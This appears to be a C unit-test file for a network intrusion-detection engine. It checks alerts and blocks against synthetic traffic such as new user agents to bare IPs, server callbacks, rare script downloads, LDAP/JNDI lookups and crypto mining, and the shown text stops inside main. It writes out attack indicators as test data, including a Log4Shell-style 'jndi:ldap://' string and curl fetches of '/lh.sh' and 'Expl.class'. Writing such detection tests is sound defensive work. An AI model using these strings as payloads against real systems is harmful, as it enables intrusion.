// SPDX-License-Identifier: GPL-2.0-or-later
// The shipped policies on made-up observations: for each the case it is for, and the ordinary ones beside it.
//
//   10.0.0.1-12 workstations   10.0.1.1-3 exposed servers (web)   203.0.113.x attackers   198.51.100.x the ordinary
//   outside
#include "judge_test_scorer.h"
#include "judge_test_throttle.h"
#include "judge_test_clock.h"

START_TEST(two_ordinary_weeks_alert_nobody)
{
	teardown();
	begin();
	for (unsigned day = 0; day < 14; day++) {
		ordinary_day(day);
		expect_silence();
		alert_count = 0;
	}
	ck_assert_uint_eq(counters.value[COUNT_BRAIN_COUNTS_FULL], 0);
}
END_TEST

START_TEST(a_new_agent_to_a_bare_address_is_an_alert_with_its_counts)
{
	const struct alert *a;

	opened(DIRECTION_OUT, server(0), ip("203.0.113.9"), 80, TODAY);
	requested(server(0), ip("203.0.113.9"), 80, "203.0.113.9", "curl/7.47.0", "/lh.sh", 0, TODAY + 1);
	expect("conn/new-agent-bare-ip", 4);
	a = alert_of("conn/new-agent-bare-ip");
	ck_assert_str_eq(a->agent, "curl/7.47.0");
	ck_assert_str_eq(a->uri, "/lh.sh");
	ck_assert_int_eq(strncmp(a->group, "group-", 6), 0);
	ck_assert_uint_eq(a->exposed, 1);
	ck_assert_uint_eq(a->terms, 4);
	ck_assert_uint_eq(a->term[0].feature, FEATURE_AGENT);
	ck_assert_uint_eq(a->term[0].counts.device_days, 0);
	ck_assert_uint_eq(a->term[0].counts.device_known, 10);
	ck_assert_uint_eq(a->term[0].counts.peers_total, SERVERS - 1);
	ck_assert_uint_eq(a->term[0].counts.org_total, WORKSTATIONS + SERVERS - 1);
	ck_assert_str_eq(a->term[2].value, "203.0.113.9");
	ck_assert_uint_eq(a->term[2].counts.device_days, 0); // though its flow was opened a moment ago
	ck_assert_str_eq(a->term[3].value, "http on tcp/80");
	ck_assert(a->term[2].bits > 15 && a->term[2].bits <= 20);
	ck_assert(fabs(a->bits - (a->term[0].bits + a->term[1].bits + a->term[2].bits + a->term[3].bits)) < 1e-9);
	ck_assert_str_eq(a->mitre[0], "T1071.001");
	ck_assert_uint_eq(strlen(a->baseline), 16);
	ck_assert_uint_eq(a->phase, PHASE_CONTROL);
	expect("device/exposed-high-alert", 5); // priority 4 at an exposed server
	a = alert_of("device/exposed-high-alert");
	ck_assert_uint_eq(a->wants_block, 1);
	ck_assert_uint_eq(a->block_ns, 2 * HOUR);
	ck_assert_uint_eq(a->endpoint_port, 80);
}
END_TEST

START_TEST(a_workstation_s_new_agent_is_a_lower_alert)
{
	requested(workstation(3), ip("203.0.113.9"), 80, "203.0.113.9", "wget/1.20", "/", 0, TODAY);
	expect("conn/new-agent-bare-ip", 2);
	ck_assert_ptr_null(alert_of("device/exposed-high-alert"));
}
END_TEST

START_TEST(a_known_agent_a_named_host_or_a_resolved_address_is_no_alert)
{
	requested(workstation(0), ip("203.0.113.9"), 80, "203.0.113.9", "git/2.30.2", "/", 0, TODAY); // known here
	requested(workstation(3), ip("203.0.113.9"), 80, "new.example.org", "wget/1.20", "/", 0, TODAY);
	resolved(workstation(3), "new.example.org", ip("203.0.113.10"), TODAY);
	requested(workstation(3), ip("203.0.113.10"), 80, "", "wget/1.20", "/", 0, TODAY + 1);
	requested(workstation(3), ip("198.51.100.10"), 80, "198.51.100.10", "wget/1.20", "/", 0,
		  TODAY + 2); // an address all know
	requested(workstation(3), ip("203.0.113.11"), 80, "203.0.113.11", "", "/", 0, TODAY + 3);
	// A browser's new version where the peers use that browser.
	requested(workstation(3), ip("203.0.113.12"), 80, "203.0.113.12", "Mozilla/5.0 Firefox/97.0", "/", 0,
		  TODAY + 4);
	expect_silence();
}
END_TEST

START_TEST(a_dns_answer_explains_an_address_for_a_day_only)
{
	resolved(workstation(3), "new.example.org", ip("203.0.113.10"), TODAY - 25 * HOUR);
	requested(workstation(3), ip("203.0.113.10"), 80, "", "wget/1.20", "/", 0, TODAY);
	expect("conn/new-agent-bare-ip", 2);
}
END_TEST

START_TEST(a_device_of_two_days_is_not_judged_by_what_it_has_not_learned)
{
	struct address young = ip("10.0.0.99");

	opened(DIRECTION_OUT, young, ip("198.51.100.10"), 80, TODAY - 2 * DAY);
	requested(young, ip("203.0.113.9"), 80, "203.0.113.9", "curl/7.47.0", "/", 0, TODAY);
	expect_silence();
	requested(young, ip("203.0.113.9"), 80, "203.0.113.9", "curl/7.48.0", "/", 0, TODAY + DAY);
	ck_assert_ptr_nonnull(alert_of("conn/new-agent-bare-ip"));
}
END_TEST

START_TEST(an_exposed_server_that_calls_its_visitor_is_an_alert)
{
	const struct alert *a;

	visited(ip("203.0.113.5"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.5"), 12344, TODAY + 6 * NS_PER_S);
	expect("conn/callback-web-facing", 4); // a port it never uses
	a = alert_of("conn/callback-web-facing");
	ck_assert_uint_eq(a->callback_ns, 6 * NS_PER_S);
	ck_assert_str_eq(a->term[1].value, "tcp/12344");
	expect("device/exposed-high-alert", 5);
}
END_TEST

START_TEST(a_callback_to_a_usual_port_or_a_neighbour_is_the_weaker_alert)
{
	visited(ip("203.0.113.5"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.6"), 80, TODAY + NS_PER_S);
	expect("conn/callback-web-facing", 3);
}
END_TEST

START_TEST(a_callback_by_name_is_another_trade)
{
	visited(ip("203.0.113.5"), server(0), TODAY);
	resolved(server(0), "hook.partner.example", ip("203.0.113.5"), TODAY + 1);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.5"), 80, TODAY + NS_PER_S);
	expect("conn/callback-named", 3);
	ck_assert_ptr_null(alert_of("conn/callback-web-facing"));
}
END_TEST

START_TEST(no_callback_without_a_visit_after_ten_minutes_by_a_client_or_to_known_places)
{
	opened(DIRECTION_OUT, server(0), ip("203.0.113.5"), 8443, TODAY);
	visited(ip("203.0.113.7"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.7"), 80, TODAY + 601 * NS_PER_S);
	visited(ip("203.0.113.8"), workstation(2), TODAY);
	opened(DIRECTION_OUT, workstation(2), ip("203.0.113.8"), 80, TODAY + NS_PER_S);
	visited(ip("198.51.100.13"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("198.51.100.13"), 80, TODAY + NS_PER_S);
	// A neighbour of a visitor that a name leads to: a content provider's network.
	visited(ip("203.0.114.1"), server(0), TODAY);
	resolved(server(0), "api.example.org", ip("203.0.114.2"), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.114.2"), 443, TODAY + NS_PER_S);
	expect_silence();
}
END_TEST

START_TEST(ftp_data_is_no_callback) // whether its client has a name or not
{
	struct observation o;

	visited(ip("203.0.113.5"), server(0), TODAY);
	if (_i)
		resolved(server(0), "client.example.net", ip("203.0.113.5"), TODAY);
	o = made(OBS_FLOW_OPEN, DIRECTION_OUT, server(0), ip("203.0.113.5"), 50000, TODAY + 1);
	o.client_port = 20;
	observe(&o);
	expect_silence();
}
END_TEST

#include "judge_test_facts.h"
#include "judge_test_uploads.h"

START_TEST(a_script_from_a_rare_place_is_an_alert_and_joined_with_its_request)
{
	const struct alert *a;

	requested(workstation(0), ip("203.0.113.9"), 8080, "203.0.113.9:8080", "git/2.30.2", "//lh.sh", 0, TODAY);
	received(workstation(0), ip("203.0.113.9"), 8080, FILE_SCRIPT, TODAY + 1);
	expect("file/script-rare-source", 3);
	a = alert_of("file/script-rare-source");
	ck_assert_str_eq(a->uri, "//lh.sh");
	ck_assert_str_eq(a->agent, "git/2.30.2");
	ck_assert_str_eq(a->file, "script");
	ck_assert_str_eq(a->term[1].value, "script from 203.0.113.9");
	ck_assert_uint_eq(a->wants_block, 0);
}
END_TEST

START_TEST(a_script_from_a_known_host_or_place_is_none)
{
	fetched(workstation(1), "git.example.org", "203.0.113.20", "curl/7.74.0", FILE_SCRIPT, TODAY); // the host moved
	fetched(workstation(5), "www.example.com", "198.51.100.10", "x", FILE_SCRIPT, TODAY);
	expect_silence();
}
END_TEST

START_TEST(a_program_to_an_exposed_server_from_a_rare_place_is_cut_and_blocked)
{
	const struct alert *a;

	requested(server(1), ip("203.0.113.9"), 8080, "203.0.113.9:8080", "Debian APT-HTTP/1.3 (2.2.4)",
		  "/libsystem.so", 0, TODAY);
	received(server(1), ip("203.0.113.9"), 8080, FILE_ELF, TODAY + 1);
	expect("file/exposed-server-download", 4);
	a = alert_of("file/exposed-server-download");
	ck_assert(a->wants_cut && a->wants_block && a->certain);
	ck_assert_uint_eq(a->block_ns, 2 * HOUR);
	received(server(1), ip("203.0.113.10"), 80, FILE_JAVA_CLASS, TODAY + 2);
	ck_assert_uint_eq(alerts[alert_count - 2].priority, 5);
}
END_TEST

static void visits_each_day(unsigned days, unsigned from, unsigned to)
{
	for (unsigned day = 0; day < days; day++) {
		ordinary_visits(TODAY + day * DAY + HOUR);
		for (unsigned n = from; n <= to; n++)
			fetched(server(n), "cdn.patient.example", "203.0.113.40", "Debian APT-HTTP/1.3 (2.2.4)", FILE_HTML,
				TODAY + day * DAY + 2 * HOUR + n * NS_PER_S);
	}
}

static const struct {
	unsigned days, from, to;
	bool told;
} patience[] = {{5, 1, 1, true}, {33, 1, 1, true}, {5, 0, 1, false}};
enum { PATIENCE = sizeof(patience) / sizeof(patience[0]) };

// Small visits make a host known to the one device that makes them, and to nobody else; however long they go on.
START_TEST(patience_makes_no_place_known_from_which_a_program_comes_but_others_do)
{
	visits_each_day(patience[_i].days, patience[_i].from, patience[_i].to);
	alert_count = 0;
	fetched(server(1), "cdn.patient.example", "203.0.113.41", "Debian APT-HTTP/1.3 (2.2.4)", FILE_ARCHIVE,
		TODAY + patience[_i].days * DAY);
	ck_assert_int_eq(alert_of("file/exposed-server-download") != NULL, patience[_i].told);
}
END_TEST

START_TEST(a_server_that_keeps_going_where_nobody_else_goes_is_told)
{
	visits_each_day(3, 1, 1);
	ck_assert_ptr_null(alert_of("conn/new-steady-host")); // today's does not count yet
	visits_each_day(5, 1, 1);
	expect("conn/new-steady-host", 2);
}
END_TEST

START_TEST(going_where_others_go_too_is_no_news)
{
	visits_each_day(5, 0, 1);
	ck_assert_ptr_null(alert_of("conn/new-steady-host"));
}
END_TEST

// What a device began with in its first days is what it was put up for.
START_TEST(what_a_young_server_is_for_is_no_news)
{
	struct address young = ip("192.0.2.77");

	for (unsigned day = 0; day < 9; day++) {
		for (unsigned c = 0; c < 30; c++)
			visited(address_v4((uint8_t[]){192, 0, 2, (uint8_t)(c + 100)}), young, TODAY + day * DAY + c * NS_PER_S);
		fetched(young, "own.service.example", "203.0.113.42", "Debian APT-HTTP/1.3 (2.2.4)", FILE_HTML,
			TODAY + day * DAY + HOUR);
	}
	ck_assert_ptr_null(alert_of("conn/new-steady-host"));
}
END_TEST

START_TEST(an_archive_is_told_but_not_blocked)
{
	received(server(1), ip("203.0.113.9"), 8080, FILE_ARCHIVE, TODAY);
	expect("file/exposed-server-download", 3);
	ck_assert_uint_eq(alert_of("file/exposed-server-download")->wants_block, 0);
	ck_assert_uint_eq(alert_of("file/exposed-server-download")->certain, 0);
}
END_TEST

START_TEST(updates_and_workstation_downloads_are_none)
{
	fetched(server(1), "deb.example.org", "203.0.113.21", "Debian APT-HTTP/1.3 (2.2.4)", FILE_PACKAGE,
		TODAY); // a new mirror
	fetched(workstation(1), "setup.example.net", "203.0.113.22", "Mozilla/5.0 Firefox/95.0", FILE_PE, TODAY);
	received(server(1), ip("203.0.113.23"), 80, FILE_HTML, TODAY);
	expect_silence();
}
END_TEST

START_TEST(http_on_port_88_to_a_rare_place_is_blocked_at_an_exposed_server)
{
	const struct alert *a;

	opened(DIRECTION_OUT, server(2), ip("203.0.113.196"), 88, TODAY);
	protocol(server(2), ip("203.0.113.196"), 88, APP_HTTP, true, TODAY + 1);
	expect("conn/unusual-proto-port", 4);
	a = alert_of("conn/unusual-proto-port");
	ck_assert(a->wants_block && a->endpoint_port == 88 && a->block_ns == 2 * HOUR);
	ck_assert_str_eq(a->term[0].value, "http on tcp/88");
	alert_count = 0;
	protocol(workstation(2), ip("203.0.113.197"), 89, APP_HTTP, true, TODAY + 2);
	expect("conn/unusual-proto-port", 2);
	ck_assert_uint_eq(alerts[0].wants_block, 0);
}
END_TEST

START_TEST(a_port_others_use_for_it_or_a_known_place_is_no_unusual_port)
{
	for (unsigned w = 0; w < 3; w++) // the third is the first who is not rare
		protocol(workstation(w), ip("198.51.100.30"), 8088, APP_HTTP, false, TODAY);
	protocol(workstation(7), ip("203.0.113.40"), 8088, APP_HTTP, true, TODAY + DAY);
	protocol(server(0), ip("198.51.100.13"), 88, APP_HTTP, false, TODAY + DAY); // no fact
	protocol(server(0), ip("198.51.100.13"), 88, APP_HTTP, true, TODAY + DAY);  // the servers' own repository
	expect_silence();
}
END_TEST

START_TEST(a_device_that_tells_its_address_to_a_rare_place_is_an_alert)
{
	requested(server(0), ip("203.0.113.9"), 80, "203.0.113.9", "Debian APT-HTTP/1.3 (2.2.4)", "/?ip=10.0.1.1",
		  FACT_BIT(FACT_SELF_ADDRESS), TODAY);
	expect("http/self-reference", 4);
	alert_count = 0;
	requested(workstation(0), ip("198.51.100.10"), 80, "www.example.com", "git/2.30.2", "/?ip=10.0.0.1",
		  FACT_BIT(FACT_SELF_ADDRESS), TODAY);
	expect_silence();
}
END_TEST

static struct observation ldap(unsigned direction, struct address client, struct address called, bool from_client,
			       uint64_t now_ns)
{
	struct observation o = made(OBS_LDAP, direction, client, called, 1389, now_ns);

	o.app = APP_LDAP;
	o.from_client = from_client;
	o.facts = FACT_BIT(FACT_LDAP_JAVA_REFERENCE);
	o.number[NUM_LDAP_OPERATION] = LDAP_SEARCH_ENTRY;
	observation_put(&o, TEXT_LDAP_CODEBASE, bytes_of_text("http://203.0.113.9:8000/"));
	return o;
}

START_TEST(java_code_from_a_directory_outside_is_certain)
{
	struct observation o = ldap(DIRECTION_OUT, ip("10.0.0.77"), ip("203.0.113.9"), false,
				    TODAY); // a device seen for the first time
	const struct alert *a;

	judge_observe(judge, &o, MODE_LEARN); // and before anything is ready
	expect("ldap/java-reference-external", 5);
	a = alert_of("ldap/java-reference-external");
	ck_assert(a->certain && a->wants_cut && a->wants_block);
	ck_assert_str_eq(a->detail, "http://203.0.113.9:8000/");
	ck_assert(a->bits > 13);
	ck_assert_uint_eq(a->mode, MODE_LEARN);
}
END_TEST

START_TEST(java_code_from_our_own_directory_is_none)
{
	struct observation o = ldap(DIRECTION_LATERAL, server(0), ip("10.0.2.2"), false, TODAY);

	observe(&o);
	o = ldap(DIRECTION_IN, ip("203.0.113.9"), server(0), false, TODAY); // our server answers a client outside
	observe(&o);
	expect_silence();
}
END_TEST

START_TEST(rmi_to_the_outside_is_an_alert_for_exposed_servers_only)
{
	struct observation o = made(OBS_RMI, DIRECTION_OUT, workstation(0), ip("203.0.113.9"), 1099, TODAY);

	o.app = APP_RMI;
	o.facts = FACT_BIT(FACT_RMI);
	observe(&o);
	expect_silence();
	o.client = server(0);
	observe(&o);
	expect("rmi/external", 4);
	ck_assert(alert_of("rmi/external")->wants_block);
}
END_TEST

START_TEST(a_jndi_attempt_is_a_note)
{
	jndi(ip("203.0.113.5"), server(0), "203.0.113.9", TODAY);
	expect("jndi/attempt", 1);
	ck_assert_str_eq(alerts[0].detail, "jndi:ldap://203.0.113.9:1389/a");
	ck_assert_uint_eq(alert_count, 1);
	ck_assert_uint_eq(alerts[0].wants_block + alerts[0].wants_cut, 0);
}
END_TEST

START_TEST(a_contact_with_what_a_look_up_named_is_certain)
{
	jndi(ip("203.0.113.5"), server(0), "203.0.113.9", TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.9"), 1389, TODAY + 50000000);
	expect("jndi/callback", 5);
	ck_assert(alert_of("jndi/callback")->wants_block && alert_of("jndi/callback")->wants_cut);
}
END_TEST

START_TEST(a_named_place_is_not_cut_off_when_it_is_known_or_another_device_or_too_late)
{
	jndi(ip("203.0.113.5"), server(0), "198.51.100.13", TODAY); // the attacker names our repository
	opened(DIRECTION_OUT, server(0), ip("198.51.100.13"), 80, TODAY + 1);
	jndi(ip("203.0.113.5"), server(0), "198.51.100.10", TODAY); // what all workstations know
	opened(DIRECTION_OUT, server(0), ip("198.51.100.10"), 80, TODAY + 1);
	jndi(ip("203.0.113.5"), server(0), "203.0.113.9", TODAY);
	opened(DIRECTION_OUT, workstation(1), ip("203.0.113.9"), 80, TODAY + 1);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.9"), 80, TODAY + 601 * NS_PER_S);
	expect_silence();
}
END_TEST

START_TEST(a_host_that_a_look_up_named_is_followed_through_dns)
{
	jndi(ip("203.0.113.5"), server(0), "evil.example.net", TODAY);
	resolved(server(0), "x.evil.example.net", ip("203.0.113.99"), TODAY + 1);
	expect("dns/taint-callback", 4);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.99"), 443, TODAY + 2);
	expect("jndi/callback", 5);
	for (unsigned i = 0; i < alert_count; i++) // the resolver is not the enemy
		ck_assert(!alerts[i].wants_block || alerts[i].endpoint_port != 53);
}
END_TEST

START_TEST(a_known_host_that_a_look_up_named_stays_free)
{
	jndi(ip("203.0.113.5"), server(0), "deb.example.org", TODAY);
	resolved(server(0), "deb.example.org", ip("203.0.113.98"), TODAY + 1);
	alert_count = 0; // that the name was asked is told; the address is left alone
	opened(DIRECTION_OUT, server(0), ip("203.0.113.98"), 80, TODAY + 2);
	expect_silence();
}
END_TEST

START_TEST(stratum_to_the_outside_is_certain)
{
	struct observation o = made(OBS_STRATUM, DIRECTION_OUT, workstation(4), ip("203.0.113.30"), 3333, TODAY);

	o.app = APP_STRATUM;
	o.facts = FACT_BIT(FACT_STRATUM);
	observation_put(&o, TEXT_STRATUM_METHOD, bytes_of_text("login"));
	observation_put(&o, TEXT_STRATUM_LOGIN, bytes_of_text("wallet"));
	observe(&o);
	expect("compromise/mining", 5);
	ck_assert_str_eq(alerts[0].detail, "wallet");
	ck_assert(alerts[0].wants_cut && alerts[0].wants_block && alerts[0].certain);
	alert_count = 0;
	o.direction = DIRECTION_LATERAL;
	o.server = server(0);
	observe(&o);
	expect_silence();
}
END_TEST

START_TEST(two_families_within_an_hour_make_an_exposed_server_s_compound_alert)
{
	visited(ip("203.0.113.5"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.5"), 80, TODAY + 1); // 3
	ck_assert_ptr_null(alert_of("device/exposed-high-alert"));
	received(server(0), ip("203.0.113.5"), 80, FILE_ARCHIVE, TODAY + 2); // 3, another family
	expect("device/exposed-high-alert", 5);
	ck_assert_uint_eq(alert_of("device/exposed-high-alert")->wants_block, 1);
}
END_TEST

START_TEST(two_families_two_hours_apart_do_not)
{
	visited(ip("203.0.113.5"), server(0), TODAY);
	opened(DIRECTION_OUT, server(0), ip("203.0.113.5"), 80, TODAY + 1);
	received(server(0), ip("203.0.113.5"), 80, FILE_ARCHIVE, TODAY + 2 * HOUR);
	ck_assert_ptr_null(alert_of("device/exposed-high-alert"));
}
END_TEST

START_TEST(what_alerts_is_not_learned_and_repeats_are_folded)
{
	struct address bad = ip("203.0.113.9");
	struct counts c;

	for (unsigned i = 0; i < 5; i++)
		requested(workstation(3), bad, 80, "203.0.113.9", "wget/1.20", "/", 0, TODAY + i * NS_PER_S);
	ck_assert_uint_eq(alert_count, 1);
	ck_assert_uint_eq(counters.value[COUNT_BRAIN_ALERTS_THROTTLED] > 3, 1);
	opened(DIRECTION_OUT, workstation(3), bad, 80, TODAY + 10 * NS_PER_S); // of a pair that alerted
	learn_counts(learned, learn_device_find(learned, &(struct address){.family = 4, .b = {10, 0, 0, 4}}),
		     FEATURE_AGENT, bytes_of_text("wget/1.20"), TODAY + DAY, &c);
	ck_assert_uint_eq(c.device_days, 0);
	learn_counts(learned, NULL, FEATURE_ENDPOINT, bytes_of(&bad, sizeof(bad)), TODAY + DAY, &c);
	ck_assert_uint_eq(c.org, 0);
	requested(workstation(3), bad, 80, "203.0.113.9", "wget/1.20", "/", 0, TODAY + 2 * HOUR);
	ck_assert_uint_eq(alert_count, 2);
	ck_assert_uint_eq(alerts[1].repeats, 4);
}
END_TEST

START_TEST(what_the_wire_dropped_is_not_learned)
{
	struct observation o = made(OBS_FLOW_OPEN, DIRECTION_OUT, workstation(3), ip("203.0.113.60"), 80, TODAY);
	struct address a = ip("203.0.113.60");
	struct counts c;

	o.flags8 = OBS_FLAG_DROPPED;
	observe(&o);
	learn_step(learned, TODAY + 2 * DAY);
	learn_counts(learned, NULL, FEATURE_ENDPOINT, bytes_of(&a, sizeof(a)), TODAY + 2 * DAY, &c);
	ck_assert_uint_eq(c.org, 0);
	o.flags8 = 0;
	o.time_ns = TODAY + 2 * DAY;
	observe(&o);
	learn_step(learned, TODAY + 3 * DAY);
	learn_counts(learned, NULL, FEATURE_ENDPOINT, bytes_of(&a, sizeof(a)), TODAY + 3 * DAY, &c);
	ck_assert_uint_eq(c.org, 1);
}
END_TEST

START_TEST(in_mode_learn_only_certain_facts_alert)
{
	struct observation o = made(OBS_FLOW_OPEN, DIRECTION_OUT, server(0), ip("203.0.113.5"), 12344, TODAY + 1);

	visited(ip("203.0.113.5"), server(0), TODAY);
	judge_observe(judge, &o, MODE_LEARN);
	expect_silence();
}
END_TEST

START_TEST(a_held_pair_is_refused_when_its_opening_deserves_a_block)
{
	struct observation o = made(OBS_HELD, DIRECTION_OUT, server(0), ip("203.0.113.5"), 12344, TODAY + NS_PER_S);
	struct address a = ip("203.0.113.5");
	struct counts c;

	ck_assert(judge_held(judge, &o, MODE_ENFORCE)); // nobody came from there
	expect_silence();
	visited(a, server(0), TODAY);
	ck_assert(!judge_held(judge, &o, MODE_ENFORCE));
	expect("conn/callback-web-facing", 4);
	ck_assert(!judge_held(judge, &o, MODE_ENFORCE)); // again: throttled, still refused
	learn_counts(learned, NULL, FEATURE_ENDPOINT, bytes_of(&a, sizeof(a)), TODAY, &c);
	ck_assert_uint_eq(c.org, 0);
	ck_assert(judge_held(judge, &o, MODE_LEARN));
}
END_TEST

START_TEST(a_request_is_found_again_and_printable)
{
	struct judge_request r;

	flows = 4711;
	requested(workstation(0), ip("198.51.100.10"), 80, "www.example.com", "git/2.30.2", "/a\x01", 0, TODAY);
	ck_assert(judge_request_of(judge, 4711, 1, &r));
	ck_assert_str_eq(r.host, "www.example.com");
	ck_assert_str_eq(r.uri, "/a\\x01");
	ck_assert(!judge_request_of(judge, 4711, 2, &r));
	for (uint64_t i = 0; i < 200000; i++) { // bounded: the oldest are gone
		flows = 10000 + i;
		requested(workstation(0), ip("198.51.100.10"), 80, "www.example.com", "git/2.30.2", "/", 0, TODAY + i);
	}
	ck_assert(!judge_request_of(judge, 4711, 1, &r));
	ck_assert(judge_request_of(judge, 209999, 1, &r));
}
END_TEST

START_TEST(the_whole_chain_of_case_one_is_told_step_by_step)
{
	struct address bad = ip("203.0.113.233"), depot = ip("203.0.113.12");
	uint64_t t = TODAY;

	visited(bad, server(0), t);
	opened(DIRECTION_OUT, server(0), bad, 12344, t + 6 * NS_PER_S);
	flows++;
	requested(server(0), bad, 5874, "203.0.113.233:5874", "Java/1.8.0_102", "/", 0, t + 6 * NS_PER_S);
	flows++;
	requested(server(0), bad, 80, "203.0.113.233", "curl/7.47.0", "/?h=10.0.1.1", FACT_BIT(FACT_SELF_ADDRESS),
		  t + 7 * NS_PER_S);
	flows++;
	requested(server(0), depot, 8080, "203.0.113.12:8080", "curl/7.47.0", "//lh.sh", 0, t + HOUR);
	received(server(0), depot, 8080, FILE_SCRIPT, t + HOUR + 1);
	flows++;
	requested(server(0), depot, 8080, "203.0.113.12:8080", "Java/1.8.0_102", "/Expl.class", 0, t + HOUR + NS_PER_S);
	received(server(0), depot, 8080, FILE_JAVA_CLASS, t + HOUR + NS_PER_S + 1);
	expect("conn/callback-web-facing", 4);
	expect("conn/new-agent-bare-ip", 4);
	expect("http/self-reference", 4);
	expect("file/script-rare-source", 4);
	expect("file/exposed-server-download", 5);
	expect("device/exposed-high-alert", 5);
	ck_assert_uint_gt(alerts_above(3), 7);
}
END_TEST

START_TEST(the_same_observations_give_the_same_alerts)
{
	static struct alert first[ALERTS];
	unsigned n;

	the_whole_chain_of_case_one_is_told_step_by_step_fn(0);
	n = alert_count;
	memcpy(first, alerts, sizeof(first));
	teardown();
	setup();
	the_whole_chain_of_case_one_is_told_step_by_step_fn(0);
	ck_assert_uint_eq(alert_count, n);
	ck_assert_mem_eq(first, alerts, n * sizeof(first[0]));
}
END_TEST

static unsigned alerts_of(const char *policy)
{
	unsigned n = 0;

	for (unsigned i = 0; i < alert_count; i++)
		n += strcmp(alerts[i].policy, policy) == 0;
	return n;
}

START_TEST(names_asked_day_after_day_outlive_a_flood_of_names)
{
	struct observation o;
	char name[32];

	for (unsigned day = 5; day < 9; day++)
		resolved(server(0), "backup.example.net", ip("203.0.113.97"), START + day * DAY + 9 * HOUR);
	o = made(OBS_DNS, DIRECTION_OUT, workstation(1), ip("198.51.100.53"), 53, TODAY - HOUR);
	o.transport = 17;
	o.app = APP_DNS;
	for (unsigned n = 0; n < 300000; n++) {
		struct observation asked = o;

		snprintf(name, sizeof(name), "n%u.example", n);
		observation_put(&asked, TEXT_DNS_NAME, bytes_of_text(name));
		observe(&asked);
	}
	named(ip("203.0.113.5"), server(0), NULL, "backup.example.net", TODAY);
	alert_count = 0;
	resolved(server(0), "backup.example.net", ip("203.0.113.97"), TODAY + 1);
	ck_assert_uint_eq(alerts_of("dns/named-by-outside"), 0);
	named(ip("203.0.113.5"), server(0), NULL, "other.example.net", TODAY + 2);
	resolved(server(0), "other.example.net", ip("203.0.113.97"), TODAY + 3);
	ck_assert_uint_eq(alerts_of("dns/named-by-outside"), 1);
}
END_TEST

// What many begin with at once is told once a week, with its value and how many there are.
START_TEST(a_roll_out_is_one_note)
{
	struct address site = ip("198.51.103.7");
	const struct alert *a;

	teardown();
	begin();
	judge_set_budget(judge, 1, 0);
	for (unsigned day = 0; day < 16; day++)
		ordinary_day(day);
	alert_count = 0;
	for (unsigned w = 0; w < WORKSTATIONS; w++)
		resolved(workstation(w), "agent.rolled-out.net", site, START + 16 * DAY + 10 * HOUR + w * 60 * NS_PER_S);
	ck_assert_uint_eq(alerts_of("network/rollout"), 1);
	a = alert_of("network/rollout");
	ck_assert_uint_eq(a->priority, 1);
	ck_assert(a->score.class == SCORE_NAME && a->score.terms == 1);
	ck_assert_uint_ge(a->score.term[0].adopters, 4);
	ck_assert_str_eq(a->score.term[0].value, "rolled-out.net");
	ck_assert_uint_eq(alert_verify(a, NULL, 0), 0);
	for (unsigned w = 0; w < WORKSTATIONS; w++)
		resolved(workstation(w), "other.program.net", site, START + 16 * DAY + 12 * HOUR + w * 60 * NS_PER_S);
	ck_assert_uint_eq(alerts_of("network/rollout"), 2); // another value, another note
}
END_TEST

START_TEST(records_without_a_flow_or_in_transit_are_let_through)
{
	struct observation o;

	for (unsigned kind = 1; kind < OBS_KINDS; kind++)
		for (unsigned direction = 1; direction <= DIRECTION_TRANSIT; direction++) {
			o = made(kind, direction, ip("2001:db8::1"), ip("fe80::1"), 80, TODAY);
			judge_observe(judge, &o, MODE_ENFORCE);
			ck_assert(judge_held(judge, &o, MODE_ENFORCE));
		}
	observation_init(&o, OBS_LOST);
	judge_observe(judge, &o, MODE_ENFORCE);
	ck_assert(judge_held(judge, &o, MODE_ENFORCE));
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("judge");
	TCase *cases = tcase_create("policies");
	SRunner *runner;
	int failed;

	tcase_add_checked_fixture(cases, setup, teardown);
	tcase_add_test(cases, two_ordinary_weeks_alert_nobody);
	tcase_add_test(cases, a_new_agent_to_a_bare_address_is_an_alert_with_its_counts);
	tcase_add_test(cases, a_workstation_s_new_agent_is_a_lower_alert);
	tcase_add_test(cases, a_known_agent_a_named_host_or_a_resolved_address_is_no_alert);
	tcase_add_test(cases, a_dns_answer_explains_an_address_for_a_day_only);
	tcase_add_test(cases, a_device_of_two_days_is_not_judged_by_what_it_has_not_learned);
	tcase_add_test(cases, an_exposed_server_that_calls_its_visitor_is_an_alert);
	tcase_add_test(cases, a_callback_to_a_usual_port_or_a_neighbour_is_the_weaker_alert);
	tcase_add_test(cases, a_callback_by_name_is_another_trade);
	tcase_add_test(cases, no_callback_without_a_visit_after_ten_minutes_by_a_client_or_to_known_places);
	tcase_add_loop_test(cases, ftp_data_is_no_callback, 0, 2);
	add_facts(cases);
	add_uploads(cases);
	tcase_add_test(cases, a_script_from_a_rare_place_is_an_alert_and_joined_with_its_request);
	tcase_add_test(cases, a_script_from_a_known_host_or_place_is_none);
	tcase_add_test(cases, a_program_to_an_exposed_server_from_a_rare_place_is_cut_and_blocked);
	tcase_add_loop_test(cases, patience_makes_no_place_known_from_which_a_program_comes_but_others_do, 0, PATIENCE);
	tcase_add_test(cases, a_server_that_keeps_going_where_nobody_else_goes_is_told);
	tcase_add_test(cases, going_where_others_go_too_is_no_news);
	tcase_add_test(cases, what_a_young_server_is_for_is_no_news);
	tcase_add_test(cases, an_archive_is_told_but_not_blocked);
	tcase_add_test(cases, updates_and_workstation_downloads_are_none);
	tcase_add_test(cases, http_on_port_88_to_a_rare_place_is_blocked_at_an_exposed_server);
	tcase_add_test(cases, a_port_others_use_for_it_or_a_known_place_is_no_unusual_port);
	tcase_add_test(cases, a_device_that_tells_its_address_to_a_rare_place_is_an_alert);
	tcase_add_test(cases, java_code_from_a_directory_outside_is_certain);
	tcase_add_test(cases, java_code_from_our_own_directory_is_none);
	tcase_add_test(cases, rmi_to_the_outside_is_an_alert_for_exposed_servers_only);
	tcase_add_test(cases, a_jndi_attempt_is_a_note);
	tcase_add_test(cases, a_contact_with_what_a_look_up_named_is_certain);
